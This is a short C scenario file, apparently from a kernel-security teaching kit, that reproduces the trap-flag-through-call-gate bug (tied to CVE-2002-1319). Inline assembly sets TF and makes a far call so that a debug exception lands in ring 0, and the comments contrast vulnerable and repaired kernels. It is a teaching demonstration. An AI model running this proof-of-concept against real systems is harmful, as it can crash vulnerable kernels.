/* ATTACK gate_tf: we step through the call gate, and the debug exception comes in the kernel
 * SLIDE 1 User/kernel interactions so far
 * GATES gate
 * MECHANISM a call gate does not clear TF. Behind the far call the first instruction of the kernel is
 *          "stepped": #DB in ring 0, which nobody expects there.
 * STOPPED #DB at an entry is known to be the caller's, and is given to it on the way out. No model
 *          and no policy helps.
 * HISTORY CVE-2002-1319, its other flag: Linux up to 2.4.20.
 * VULNERABLE split,flat,fenced/all oops #DB  a debug exception of the kernel's own: nobody asked for one
 * REPAIRED split,flat,fenced/all killed #DB  the program gets its own debug exception, and has no use
 *          for it
 */
#include "lib/scenario.h"

int scenario(void)
{
	attack(ATTACK_GATE, 0, 0);
	demo(DEMO_CLAIM_NONE, 0, 0, 0);
	/* POPFL's trap comes after the instruction behind it. */
	__asm__ volatile("subl %2, %%esp; pushfl; orl %3, (%%esp); popfl; lcall %1, $0"
			 : : "a"(NR_GETPID), "i"(SEL_CALL_GATE), "i"(CALL_GATE_PARAMS * 4), "i"(EFLAGS_TF)
			 : "ecx", "edx", "memory", "cc");
	return 1;		/* not reached */
}
